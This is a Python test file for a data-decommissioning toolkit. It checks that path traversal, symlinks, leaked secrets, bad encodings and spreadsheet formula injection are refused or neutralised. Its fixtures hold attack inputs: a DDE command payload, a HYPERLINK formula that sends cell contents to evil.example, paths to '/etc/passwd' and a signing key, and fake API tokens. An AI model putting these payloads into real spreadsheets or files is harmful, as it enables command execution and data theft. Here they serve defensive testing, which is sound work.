"""Hostile and careless input: paths stay confined, secrets and formulas never reach a file,
bad bytes are named, and every refusal leaves the workspace exactly as it was."""

from __future__ import annotations

import os
import re
import shutil
import sqlite3
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from decomkit.context.stage import open_stage
from decomkit.core.errors import InputError, WorkspaceError
from decomkit.core.sinks import MASK, safe_frame, scrub, write_csv, write_json, write_xlsx
from decomkit.custody.checksums import MANIFEST, MARKER
from decomkit.custody.store import Store
from decomkit.custody.verify import open_store
from decomkit.inventory.tables import load_inventory
from decomkit.lifecycle.backup import remove_incomplete, run_backup
from decomkit.lifecycle.decide import run_portfolio
from decomkit.records.dossier import render_records, write_tables
from decomkit.running.batch import plan_apps, run_batch
from decomkit.views import charts

BIN = Path(sys.executable).parent / "decomkit"
SECRET = "sk-live-4f9TqX2mB7zK1pL8wR3vN6yH"
FORMULAS = ("=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"click")')


def cli(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([str(BIN), *args], capture_output=True, text=True, timeout=600)


def snapshot(root: Path) -> dict[str, tuple[int, int]]:
    """Every file with its size and modification time, and the ledger's rows. SQLite's own
    side files change when the ledger is merely read, so the rows stand for them; lock files
    (``.locks/``, ``*.lock``) say who held a lock, not what the workspace holds; ``.cache/``
    holds the inventory snapshot, what the data files say (bad files: their problems and no
    table), rebuilt from them whenever it is missing."""
    files = {str(p.relative_to(root)): (p.stat().st_size, p.stat().st_mtime_ns)
             for p in sorted(root.rglob("*")) if p.is_file() and not p.is_symlink()
             and not p.name.endswith(("-wal", "-shm", ".lock"))
             and not {".locks", ".cache"} & set(p.relative_to(root).parts)}
    files.pop("ledger.sqlite", None)
    return {**files, "(ledger rows)": (ledger_rows(root), 0)}


def ledger_rows(root: Path) -> int:
    if not (root / "ledger.sqlite").exists():
        return 0
    db = sqlite3.connect(root / "ledger.sqlite")
    try:
        return db.execute("SELECT COUNT(*) FROM events").fetchone()[0]
    finally:
        db.close()


def files_holding(root: Path, text: str) -> list[str]:
    """Every file under ``root`` whose bytes hold ``text``, looking inside zip files (XLSX)."""
    needle, found = text.encode("utf-8"), []
    for path in sorted(root.rglob("*")):
        if not path.is_file():
            continue
        data = path.read_bytes()
        if zipfile.is_zipfile(path):
            with zipfile.ZipFile(path) as book:
                data += b"".join(book.read(n) for n in book.namelist())
        if needle in data:
            found.append(str(path.relative_to(root)))
    return found


def set_app_name(workspace, app_id: str, name: str) -> None:
    """Rename an app in the demo's apps table (GBK, as the console exported it)."""
    path = workspace.root / "data" / "apps.csv"
    apps = pd.read_csv(path, encoding="gbk", dtype=str)
    apps.loc[apps["app_id"] == app_id, "name"] = name
    path.write_bytes(apps.to_csv(index=False).encode("gbk"))


def add_app_row(workspace, line: bytes) -> None:
    path = workspace.root / "data" / "apps.csv"
    path.write_bytes(path.read_bytes().rstrip(b"\r\n") + b"\n" + line + b"\n")


# ------------------------------------------------------------------ paths


@pytest.mark.parametrize("export_file", ["../../.keys/signing.key", "/etc/passwd",
                                         "..\\..\\ledger.sqlite"])
def test_an_export_file_outside_its_folder_is_refused_at_input(demo, retire, export_file):
    retire(demo, "jxc")
    path = demo.root / "data" / "datasets.csv"
    lines = path.read_text(encoding="utf-8").splitlines()
    row = next(i for i, line in enumerate(lines) if ",jxc," in line)
    cells = lines[row].split(",")
    cells[5] = f'"{export_file}"'
    lines[row] = ",".join(cells)
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    before = snapshot(demo.root)
    with pytest.raises(InputError) as caught:
        run_backup(demo, "jxc", actor="analyst")
    problem = caught.value.problems[0]
    assert (problem.file, problem.row, problem.column) == ("datasets.csv", row + 1,
                                                           "export_file")
    assert snapshot(demo.root) == before
    assert not (demo.root / "backups" / "jxc").exists()


def test_a_symlink_out_of_the_exports_folder_is_refused(demo, retire, tmp_path):
    retire(demo, "jxc")
    outside = tmp_path / "hostname"
    outside.write_text("host-secret-name\n")
    datasets = pd.read_csv(demo.root / "data" / "datasets.csv", dtype=str)
    position = int(datasets.index[datasets["app_id"] == "jxc"][0])
    target = demo.root / "exports" / "jxc" / datasets.loc[position, "export_file"]
    target.unlink()
    target.symlink_to(outside)
    before = snapshot(demo.root)
    with pytest.raises(InputError) as caught:
        run_backup(demo, "jxc", actor="analyst")
    problem = caught.value.problems[0]
    assert (problem.file, problem.row, problem.column) == ("datasets.csv", position + 2,
                                                           "export_file")
    assert "leaves the folder" in problem.what
    assert snapshot(demo.root) == before
    assert files_holding(demo.root / "backups", "host-secret-name") == []


@pytest.mark.parametrize("how", ["hard link", "copy"])
def test_the_signing_key_linked_or_copied_into_exports_is_never_backed_up(demo, retire, how):
    """A hard link stays inside exports/<app>/ to every path check; the key's content is what
    is refused, before anything is written (the backup used to hold it, mode 0644)."""
    from decomkit.proof.keys import load_signer, private_key_location

    retire(demo, "jxc")
    key = Path(private_key_location(load_signer(demo.root).key_id))
    datasets = pd.read_csv(demo.root / "data" / "datasets.csv", dtype=str)
    target = demo.root / "exports" / "jxc" / datasets.loc[
        datasets["app_id"] == "jxc", "export_file"].iloc[0]
    target.unlink()
    if how == "hard link":
        os.link(key, target)
    else:
        target.write_bytes(b"id,note\n1,x\n" * 100_000 + key.read_bytes())  # past one chunk
    before = snapshot(demo.root)
    with pytest.raises(InputError, match="holds a private key"):
        run_backup(demo, "jxc", actor="analyst")
    assert snapshot(demo.root) == before
    assert files_holding(demo.root / "backups", "PRIVATE KEY") == []


def test_an_exports_folder_that_is_a_symlink_out_is_refused(demo, retire, tmp_path):
    retire(demo, "jxc")
    elsewhere = tmp_path / "etc"
    shutil.copytree(demo.root / "exports" / "jxc", elsewhere)
    shutil.rmtree(demo.root / "exports" / "jxc")
    (demo.root / "exports" / "jxc").symlink_to(elsewhere)
    before = snapshot(demo.root)
    with pytest.raises(InputError) as caught:
        run_backup(demo, "jxc", actor="analyst")
    assert {p.column for p in caught.value.problems} == {"export_file"}
    assert snapshot(demo.root) == before


def test_a_backup_target_outside_the_workspace_keeps_other_peoples_folders(retired_jxc,
                                                                          tmp_path):
    outside = tmp_path / "OUTSIDE"
    important = outside / "jxc" / "important"
    important.mkdir(parents=True)
    (important / "contract.pdf").write_bytes(b"%PDF precious")
    store = open_store(retired_jxc, str(outside))
    # Positive control: a folder the kit began (its marker) and never finished is removed.
    crashed = outside / "jxc" / "20260101T000000000000Z"
    crashed.mkdir()
    (crashed / MARKER).write_text("a decomkit backup")
    (crashed / "half.csv").write_text("a,b\n1")
    result = run_backup(retired_jxc, "jxc", actor="analyst", store=store)
    assert (important / "contract.pdf").read_bytes() == b"%PDF precious"
    assert not crashed.exists()
    backup = outside / result.path
    assert (backup / MANIFEST).exists() and not (backup / MARKER).exists()
    assert remove_incomplete(store, "jxc") == []  # nothing else is the kit's to remove


def test_remove_incomplete_never_follows_a_symlink_out(tmp_path):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / MARKER).write_text("planted")
    (elsewhere / "keep.txt").write_text("keep")
    (tmp_path / "target" / "jxc").mkdir(parents=True)
    (tmp_path / "target" / "jxc" / "20260101T000000000000Z").symlink_to(elsewhere)
    store = Store(str(tmp_path / "target"))
    assert remove_incomplete(store, "jxc") == []
    assert (elsewhere / "keep.txt").exists()


@pytest.mark.parametrize("app_id", ["../../x", "a/b", "..", "a\\b", "a\x07b", ".hidden",
                                    "=cmd", "CON"])
def test_unusable_app_ids_are_refused_before_anything_is_recorded(demo, app_id):
    add_app_row(demo, f'"{app_id}",坏应用,,,,,,,,,'.encode("gbk"))
    before = snapshot(demo.root)
    done = cli("batch", str(demo.root), "--stages", "portfolio,assess", "--apps", "all",
               "--quiet")
    assert done.returncode == 1
    # in the workspace's language (zh), the column by the file's header or its Chinese heading
    assert re.search(r"apps\.csv,第 34 行,列「(app_id|应用ID)」:", done.stderr), done.stderr
    assert "Traceback" not in done.stderr
    assert snapshot(demo.root) == before


def test_workspace_is_not_a_batch_parameter(demo, demo_template, tmp_path):
    other = tmp_path / "other"
    shutil.copytree(demo_template, other)
    before, before_other = snapshot(demo.root), snapshot(other)
    done = cli("batch", str(demo.root), "--stages", "portfolio", "-p", "workspace", str(other),
               "--quiet")
    assert done.returncode == 1 and "「workspace」:由批量运行自行设置" in done.stderr
    apps = tmp_path / "apps.csv"
    apps.write_text(f"app_id,workspace\njxc,{other}\n", encoding="utf-8")
    with pytest.raises(InputError, match="'workspace': is set by the batch itself"):
        run_batch(demo, ["assess"], str(apps))
    assert snapshot(other) == before_other and snapshot(demo.root) == before


def test_demo_replace_replaces_only_a_demo_workspace(tmp_path):
    mine = tmp_path / "mine"
    (mine / "data").mkdir(parents=True)
    (mine / "decomkit.toml").write_text('language = "zh"\n')  # a user's own workspace
    (mine / "data" / "apps.csv").write_text("app_id,name\nA1,我的应用\n", encoding="utf-8")
    plain = tmp_path / "plain"
    plain.mkdir()
    (plain / "thesis.docx").write_bytes(b"years of work")
    for folder in (mine, plain):
        before = snapshot(folder)
        done = cli("demo", str(folder), "--replace", "--apps", "3", "--events", "500")
        assert done.returncode == 1 and "不是演示工作区" in done.stderr  # said to a zh reader
        assert snapshot(folder) == before
    # Positive control: a demo is replaced.
    demo = tmp_path / "demo"
    assert cli("demo", str(demo), "--apps", "3", "--events", "500").returncode == 0
    (demo / "scratch.txt").write_text("from the old demo")
    done = cli("demo", str(demo), "--replace", "--apps", "3", "--events", "500")
    assert done.returncode == 0, done.stderr
    assert not (demo / "scratch.txt").exists() and (demo / "decomkit.toml").exists()


# ------------------------------------------------------------------ secrets


def test_the_walk_finds_a_planted_secret(tmp_path):
    """Positive control for every secret test below: the walk sees plain files and XLSX."""
    (tmp_path / "a").mkdir()
    (tmp_path / "a" / "plain.json").write_text(f'{{"x": "{SECRET}"}}')
    book = openpyxl.Workbook()
    book.active["A1"] = SECRET
    book.save(tmp_path / "book.xlsx")
    assert files_holding(tmp_path, SECRET) == ["a/plain.json", "book.xlsx"]


@pytest.mark.parametrize("name", ["analyst", "as_of", "verify", "interactive"])
def test_a_secret_given_as_a_parameter_is_refused_by_name_and_never_echoed(demo, name):
    before = snapshot(demo.root)
    done = cli("batch", str(demo.root), "--stages", "portfolio,assess,backup", "--apps", "jxc",
               "-p", name, SECRET, "--quiet")
    assert done.returncode == 1
    assert f"「{name}」" in done.stderr and "看起来是机密" in done.stderr
    assert SECRET not in done.stdout + done.stderr
    assert snapshot(demo.root) == before
    assert files_holding(demo.root, SECRET) == []


@pytest.mark.parametrize("text", ["password=hunter2hunter2", "it-admin pwd: Hunter2Hunter2",
                                  "密码：hunter2hunter2", "app_secret=hunter2hunter2"])
def test_a_secret_named_in_the_text_is_refused_and_never_echoed(demo, text):
    """No pattern of its own (not sk-…, not a JWT): the name before it gives it away. It used
    to reach the ledger's actor field and the executed notebook."""
    before = snapshot(demo.root)
    done = cli("batch", str(demo.root), "--stages", "assess", "--apps", "jxc",
               "-p", "analyst", text, "--quiet")
    assert done.returncode == 1 and "看起来是机密" in done.stderr
    assert "hunter2" not in (done.stdout + done.stderr).lower()
    assert snapshot(demo.root) == before
    assert files_holding(demo.root, "hunter2") == files_holding(demo.root, "Hunter2") == []
    assert scrub("a password is needed; hash=ab12cd34ef") == (  # positive control
        "a password is needed; hash=ab12cd34ef")


def test_an_invalid_value_is_named_by_parameter_never_echoed(demo):
    before = snapshot(demo.root)
    done = cli("batch", str(demo.root), "--stages", "backup", "--apps", "jxc", "-p", "verify",
               "perhaps-Zq9", "--quiet")
    assert done.returncode == 1 and "参数 'verify' 的值不是真假值" in done.stderr
    assert "perhaps-Zq9" not in done.stdout + done.stderr
    assert snapshot(demo.root) == before
    with pytest.raises(WorkspaceError, match="parameter 'as_of' is not a date") as caught:
        open_stage(str(demo.root), as_of="2026-13-99-Zq9")
    assert "Zq9" not in str(caught.value)
    with pytest.raises(WorkspaceError, match="parameter 'analyst' looks like a secret") as caught:
        open_stage(str(demo.root), analyst=SECRET)
    assert SECRET not in str(caught.value)


def test_every_sink_masks_a_secret_that_reaches_it(demo, monkeypatch):
    """Whatever slips past the input checks (a secret in an error, a note, an environment
    value used as a name) is masked by the writer itself: ledger, platform state, workbooks,
    CSV, JSON summaries, rendered records, executed notebooks."""
    monkeypatch.setenv("DECOMKIT_SMTP_PASSWORD", "plain-words-password")
    known = "plain-words-password"
    from decomkit.platforms.base import Notification

    with demo.ledger() as ledger:
        ledger.transition("jxc", "assessed", f"analyst {SECRET}",
                          {"note": f"token={SECRET}", "app_secret": "anything", "by": known})
        ledger.note("jxc", known, {"error": f"Traceback: ValueError('{SECRET}')"})
    demo.platform().notify(Notification("dingtalk_work", SECRET, f"{known} {SECRET}",
                                        ("u0001",)), key="k-1")
    write_tables(demo, "jxc", demo.root / "records" / "jxc" / "tables.xlsx")
    write_csv(demo.root / "out.csv", pd.DataFrame({"a": [SECRET, known]}))
    write_json(demo.root / "runs" / "batch-summary.json", {"error": f"x {SECRET} {known}"})
    runs = demo.root / "runs" / "jxc"
    runs.mkdir(parents=True, exist_ok=True)
    import nbformat

    nb = nbformat.v4.new_notebook()
    nb.cells.append(nbformat.v4.new_code_cell("1/0", outputs=[nbformat.v4.new_output(
        "error", ename="ValueError", evalue=SECRET, traceback=[f"ValueError: {known}"])]))
    from decomkit.core.sinks import scrub_file

    nbformat.write(nb, runs / "01_assess.ipynb")
    scrub_file(runs / "01_assess.ipynb")
    render_records(demo, ["jxc"])
    for secret in (SECRET, known):
        assert files_holding(demo.root, secret) == []
    with demo.ledger() as ledger:
        event = [e for e in ledger.events("jxc") if e.kind == "transition"][-1]
        assert event.actor == f"analyst {MASK}" and event.data["app_secret"] == MASK
        assert ledger.verify() > 0  # masked before hashing: the chain still verifies


def test_the_kits_own_state_keeps_long_ids_whole(demo):
    """A platform's id may look random (a DingTalk instance id); the ledger must give it back
    as written, or tracking would lose the request. Known secrets are still masked there."""
    instance = "xIr7S2LhTTuR1I-RDtqkpg02211669796574Ab"
    with demo.ledger() as ledger:
        ledger.note("jxc", "analyst", {"instance_id": instance, "leak": SECRET})
        data = ledger.events("jxc")[-1].data
    assert data == {"instance_id": instance, "leak": MASK}
    assert scrub(instance) == MASK  # while any file for people masks such a token


def test_the_scrubber_leaves_hashes_ids_and_numbers_alone():
    kept = ["0" * 64, "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
            "20261124T004921123456Z", "msg-000001", "PROC-FF6Y4BE1N2-ABCDEF", "-12.50",
            "进销存", "u0002", "2026-11-24T00:49:21.123456+00:00-abc123"]
    assert [scrub(v) for v in kept] == kept
    for secret in (SECRET, "AKIAIOSFODNN7EXAMPLE", "ghp_" + "aB3" * 12,
                   "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJlX2hlcmU",
                   "Ab1" * 12):
        assert scrub(f"x {secret} y") == f"x {MASK} y", secret


# ------------------------------------------------------------------ formulas


def test_formula_app_names_are_text_in_every_spreadsheet(demo, as_of):
    set_app_name(demo, "jxc", FORMULAS[0])
    set_app_name(demo, "scm-legacy", FORMULAS[1])
    run = run_portfolio(open_stage(str(demo.root), as_of=str(as_of)))
    assert {"jxc", "scm-legacy"} <= set(run.candidates["app_id"])
    csv_text = (demo.root / "candidates.csv").read_text(encoding="utf-8-sig")
    assert f",'{FORMULAS[0]}," in csv_text
    assert "\n" + "jxc,=" not in csv_text and ',"=HYPERLINK' not in csv_text
    with demo.ledger() as ledger:
        ledger.note("jxc", FORMULAS[1], {"event": "test"})  # an actor is a cell too
    write_tables(demo, "jxc", demo.root / "records" / "jxc" / "tables.xlsx")
    for path in (demo.root / "candidates.xlsx", demo.root / "records/jxc/tables.xlsx"):
        cells = [c for row in openpyxl.load_workbook(path).active.iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"], path
        texts = {c.value for c in cells if c.data_type == "s"}
        assert any(t.startswith("'=") for t in texts), path
        assert not any(t.startswith(("=", "+", "@")) for t in texts), path


def test_numbers_stay_numbers_only_text_is_neutralised(tmp_path):
    frame = pd.DataFrame({"amount": [-5.5, 3.0], "text": ["-5", "@SUM(A1)"],
                          "mixed": ["+86 138", "\tx"]})
    safe = safe_frame(frame)
    assert list(safe["amount"]) == [-5.5, 3.0]
    assert list(safe["text"]) == ["-5", "'@SUM(A1)"]  # text that is a plain number is kept
    assert list(safe["mixed"]) == ["'+86 138", "'\tx"]
    dde = "-2+3+cmd|' /C calc'!A0"  # starts like a number, runs like a formula
    assert safe_frame(pd.DataFrame({"x": [dde]}))["x"][0] == "'" + dde
    write_xlsx(tmp_path / "t.xlsx", {"t": frame})
    sheet = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    assert sheet["A2"].value == -5.5 and sheet["A2"].data_type == "n"
    assert sheet["B3"].value == "'@SUM(A1)" and sheet["B3"].data_type == "s"
    write_csv(tmp_path / "t.csv", frame)
    back = (tmp_path / "t.csv").read_text(encoding="utf-8-sig").splitlines()
    assert back[1].startswith("-5.5,-5,")


# ------------------------------------------------------------------ charts and half-way


def test_a_dollar_in_an_app_name_is_drawn_as_written(demo, as_of):
    name = "a$\\x$b"
    set_app_name(demo, "jxc", name)
    stage = open_stage(str(demo.root), as_of=str(as_of))
    run = run_portfolio(stage)
    assert "jxc" in set(run.candidates["app_id"])
    text = [t.get_text() for ax in run.figures["cost_usage"].axes for t in ax.texts]
    assert charts.literal(name) in text
    from decomkit.lifecycle.decide import run_assessment

    result = run_assessment(stage, "jxc")
    for figure in (charts.contributions_bar(result.assessment, stage.thresholds),
                   charts.usage_trend(result.mau, name),
                   charts.impact_graph(result.impact, name)):
        assert charts.png(figure).startswith(b"\x89PNG")


def test_a_portfolio_that_fails_on_a_chart_writes_nothing(demo, as_of, monkeypatch):
    def broken(*args, **kwargs):
        raise ValueError("the chart could not be drawn")

    monkeypatch.setattr(charts, "cost_usage_scatter", broken)
    before = snapshot(demo.root)
    with pytest.raises(ValueError):
        run_portfolio(open_stage(str(demo.root), as_of=str(as_of)))
    assert snapshot(demo.root) == before
    assert not (demo.root / "candidates.csv").exists()


def test_portfolio_with_record_false_writes_nothing(demo, as_of):
    before = snapshot(demo.root)
    run = run_portfolio(open_stage(str(demo.root), as_of=str(as_of)), record=False)
    assert len(run.candidates) > 0 and run.files == () and run.recorded == ()
    assert snapshot(demo.root) == before
    assert not (demo.root / "candidates.csv").exists()


# ------------------------------------------------------------------ input bytes


@pytest.mark.parametrize("encoding", ["big5", "shift_jis"])
def test_big5_and_shift_jis_are_refused_not_read_as_gbk(tmp_path, encoding):
    name = "進銷存" if encoding == "big5" else "販売管理システム"
    (tmp_path / "apps.csv").write_bytes(f"app_id,name\njxc,{name}\n".encode(encoding))
    with pytest.raises(InputError) as caught:
        load_inventory(tmp_path, [])
    problem = caught.value.problems[0]
    assert (problem.file, problem.row, problem.column) == ("apps.csv", 2, "name")
    assert "not GBK" in problem.what


@pytest.mark.parametrize(("row", "column"), [
    ("jxc,進銷存".encode("big5"), "name"),
    ("jxc,販売管理".encode("shift_jis"), "name"),
    (b"j\x00xc,x", "app_id"),
    (b'jxc,"' + b"x" * 140_000 + b'"', "name"),
])
def test_bad_bytes_in_a_workspace_stop_a_batch_with_one_named_error(demo, row, column):
    path = demo.root / "data" / "apps.csv"
    path.write_bytes(b"app_id,name\r\n" + row + b"\r\n")
    before = snapshot(demo.root)
    done = cli("batch", str(demo.root), "--stages", "portfolio,assess", "--apps", "all",
               "--quiet")
    assert done.returncode == 1 and "Traceback" not in done.stderr
    assert done.stderr.count("  - ") == 1  # one error, naming where
    assert f"apps.csv,第 2 行,列「{column}」:" in done.stderr, done.stderr
    assert snapshot(demo.root) == before


def test_an_export_is_backed_up_as_it_is_whatever_its_text(retired_jxc):
    """Strict reading is for the inventory; an app's own export (a user-defined character, a
    stray control character, an attachment in a cell) is copied and verified, not refused."""
    from decomkit.custody.verify import verify_backup

    export = retired_jxc.root / "exports" / "jxc" / "销售记录.csv"
    export.write_bytes("单号,备注,附件\r\nA1,造字\ue000,x\x0b\r\nA2,,\"".encode("utf-8")
                       + b"y" * 200_000 + b'"\r\n')
    run_backup(retired_jxc, "jxc", actor="analyst")
    assert verify_backup(retired_jxc, "jxc", actor="analyst").ok


def test_a_gbk_file_of_common_chinese_is_still_read(tmp_path):
    (tmp_path / "apps.csv").write_bytes("app_id,name\njxc,进销存\nhr,人事管理\n".encode("gbk"))
    assert list(load_inventory(tmp_path, []).apps["name"]) == ["进销存", "人事管理"]


def test_a_nul_byte_is_one_error_naming_file_row_and_column(tmp_path):
    (tmp_path / "apps.csv").write_bytes(b"app_id,name\njxc,ok\nj\x00xc,bad\n")
    with pytest.raises(InputError) as caught:
        load_inventory(tmp_path, [])
    assert [(p.file, p.row, p.column) for p in caught.value.problems] == [
        ("apps.csv", 3, "app_id")]


def test_a_huge_cell_is_one_error_naming_file_row_and_column(demo, tmp_path):
    (tmp_path / "apps.csv").write_text("app_id,name,vendor\njxc,进销存,\"" + "x" * 140_000
                                       + "\"\n", encoding="utf-8")
    with pytest.raises(InputError) as caught:
        load_inventory(tmp_path, [])
    assert [(p.file, p.row, p.column) for p in caught.value.problems] == [
        ("apps.csv", 2, "vendor")]
    assert "140,000 characters" in str(caught.value)
    done = cli("status", str(tmp_path))  # not a workspace, but no raw _csv.Error either way
    assert "_csv.Error" not in done.stderr


# ------------------------------------------------------------------ command-line arguments


def test_an_apps_file_with_two_rows_for_one_app_is_refused(demo, tmp_path):
    apps = tmp_path / "apps.csv"
    apps.write_text("app_id,dry_run\njxc,true\nbi-pro,true\njxc,false\n", encoding="utf-8")
    before = snapshot(demo.root)
    with pytest.raises(InputError) as caught:
        run_batch(demo, ["assess", "disable"], str(apps))
    assert "apps.csv, row 4, column 'app_id': 'jxc' is listed twice (first at row 2)" in str(
        caught.value)
    assert snapshot(demo.root) == before


def test_a_long_list_of_ids_is_ids_not_a_file_name(demo):
    before = snapshot(demo.root)
    ids = list(demo.inventory([]).apps["app_id"])
    many = ",".join(ids * 20)  # far past any file name's length
    assert len(many) > os.pathconf("/", "PC_NAME_MAX")
    assert list(plan_apps(demo, many, ["assess"])) == ids
    done = cli("batch", str(demo.root), "--stages", "assess", "--apps",
               ",".join(f"no-such-app-{i}" for i in range(400)), "--quiet")
    assert done.returncode == 1 and "未知的应用 ID" in done.stderr  # unknown app ids (zh)
    assert "OSError" not in done.stderr and "等另外 390 个" in done.stderr
    assert snapshot(demo.root) == before


def test_a_negative_timeout_is_refused(demo):
    before = snapshot(demo.root)
    done = cli("batch", str(demo.root), "--stages", "portfolio", "--timeout", "-5", "--quiet")
    assert done.returncode == 2 and "--timeout" in done.stderr
    assert snapshot(demo.root) == before


@pytest.fixture
def retired_jxc(demo, retire):
    retire(demo, "jxc")
    return demo

